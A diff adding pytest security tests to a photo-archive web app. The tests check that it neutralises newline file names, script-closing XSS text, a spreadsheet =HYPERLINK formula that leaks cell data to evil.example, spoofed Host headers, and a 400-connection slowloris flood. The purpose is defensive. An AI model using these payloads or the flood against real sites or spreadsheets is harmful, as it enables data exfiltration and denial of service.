@@ -2,8 +2,17 @@
 
 from __future__ import annotations
 
+import csv
+import http.client
+import io
 import json
 import shutil
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -255,3 +264,144 @@ def test_download_content_types_name_the_charset_once(client: FlaskClient) -> No
     for fmt, kind in (("csv", "text/csv"), ("html", "text/html")):
         response = client.get("/api/credits", query_string={"q": "kind:video", "format": fmt})
         assert response.headers["Content-Type"] == f"{kind}; charset=utf-8"
+
+
+NEWLINE_NAME = 'Pérez\n"talk".jpg'
+SCRIPT_END = "Closing </script><script>alert(1)</script>"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def tricky_archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Names and metadata as people and cameras write them, awkward for the site."""
+    base = tmp_path_factory.mktemp("tricky")
+    event = base / "event"
+    make_jpeg(event / NEWLINE_NAME, exif=make_exif(artist=FORMULA))
+    make_jpeg(event / "closing.jpg", size=(70, 50), xmp=make_xmp(title=SCRIPT_END))
+    root = base / "archive"
+    with Archive.open(root) as archive:
+        ingest_folder(archive, event, jobs=1, progress=False)
+        sync(archive)
+    return root
+
+
+@pytest.fixture(scope="module")
+def tricky(tricky_archive: Path) -> FlaskClient:
+    return create_app(tricky_archive, {"TESTING": True}).test_client()
+
+
+def test_download_of_a_name_with_a_newline(tricky: FlaskClient) -> None:
+    photo = item_id(tricky, "file:perez")
+    status, headers, body = fetch(tricky, f"/media/{photo}/original")
+    assert status == 200 and body.startswith(b"\xff\xd8")
+    disposition = headers["Content-Disposition"]
+    assert "\n" not in disposition
+    assert disposition == ('inline; filename="P_rez__talk_.jpg"; '
+                           "filename*=UTF-8''P%C3%A9rez%0A%22talk%22.jpg")
+
+
+def test_jsonld_urls_never_come_from_the_host_header(tricky: FlaskClient,
+                                                     tricky_archive: Path) -> None:
+    photo = item_id(tricky, "file:closing")
+    evil = {"Host": "attacker.test"}
+    html = tricky.get(f"/items/{photo}", headers=evil).get_data(as_text=True)
+    assert "attacker.test" not in html
+    assert jsonld_of(html)["contentUrl"] == f"/media/{photo}/original"
+    export = tricky.get("/api/credits", query_string={"format": "jsonld"}, headers=evil)
+    assert "attacker.test" not in export.get_data(as_text=True)
+    assert {o["contentUrl"] for o in export.json["@graph"]} >= {f"/media/{photo}/original"}
+    configured = create_app(tricky_archive, {"TESTING": True,
+                                             "BASE_URL": "https://archive.example.org/"})
+    html = configured.test_client().get(f"/items/{photo}", headers=evil).get_data(
+        as_text=True)
+    assert jsonld_of(html)["contentUrl"] == (
+        f"https://archive.example.org/media/{photo}/original")
+
+
+def jsonld_of(html: str) -> dict:
+    start = html.index('<script type="application/ld+json">') + len(
+        '<script type="application/ld+json">')
+    return json.loads(html[start:html.index("</script>", start)])
+
+
+def test_jsonld_export_cannot_close_a_script_element(tricky: FlaskClient) -> None:
+    body = tricky.get("/api/credits", query_string={"format": "jsonld"}).get_data(
+        as_text=True)
+    assert "</script>" not in body and "<script" not in body
+    assert SCRIPT_END in {o["name"] for o in json.loads(body)["@graph"]}
+
+
+def test_site_csv_neutralises_formulas(tricky: FlaskClient) -> None:
+    text = tricky.get("/api/credits", query_string={"format": "csv"}).get_data(as_text=True)
+    creators = {row["creator"] for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert f"'{FORMULA}" in creators
+
+
+def test_unsatisfiable_range_names_the_size(tricky: FlaskClient) -> None:
+    photo = item_id(tricky, "file:closing")
+    size = len(fetch(tricky, f"/media/{photo}/original")[2])
+    status, headers, _ = fetch(tricky, f"/media/{photo}/original", Range=f"bytes={size}-")
+    assert status == 416
+    assert headers["Content-Range"] == f"bytes */{size}"
+
+
+def free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+def answer(port: int, url: str, timeout: float) -> tuple[int, str]:
+    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
+    try:
+        conn.request("GET", url)
+        response = conn.getresponse()
+        return response.status, response.read().decode()
+    finally:
+        conn.close()
+
+
+@contextmanager
+def served(root: Path, *options: str) -> Iterator[int]:
+    """A real `event-archive serve` on a free loopback port, answering when entered."""
+    port = free_port()
+    log = root.parent / f"serve-{port}.log"
+    with log.open("wb") as out:
+        server = subprocess.Popen([sys.executable, "-m", "archive", "--archive", str(root),
+                                   "serve", "--port", str(port), "--workers", "1", *options],
+                                  stdout=out, stderr=subprocess.STDOUT)
+    try:
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                answer(port, "/api/events", 5)
+                break
+            except OSError:
+                if server.poll() is not None or time.monotonic() > deadline:
+                    raise AssertionError(log.read_text()) from None
+                time.sleep(0.1)  # polling for the server to listen
+        yield port
+    finally:
+        server.terminate()
+        server.wait(30)
+
+
+def test_idle_connections_do_not_stop_the_site(tricky_archive: Path) -> None:
+    photo = Archive.open(tricky_archive, readonly=True)
+    try:
+        item = photo.catalog.query("SELECT id FROM items WHERE relpath = 'closing.jpg'")[0][0]
+    finally:
+        photo.close()
+    with served(tricky_archive, "--base-url", "https://archive.example.org") as port:
+        idle = []
+        try:
+            for _ in range(400):  # slowloris: connections that never finish a request
+                sock = socket.create_connection(("127.0.0.1", port), timeout=5)
+                sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
+                idle.append(sock)
+            status, html = answer(port, f"/items/{item}", timeout=10)
+        finally:
+            for sock in idle:
+                sock.close()
+    assert status == 200
+    assert jsonld_of(html)["contentUrl"] == f"https://archive.example.org/media/{item}/original"
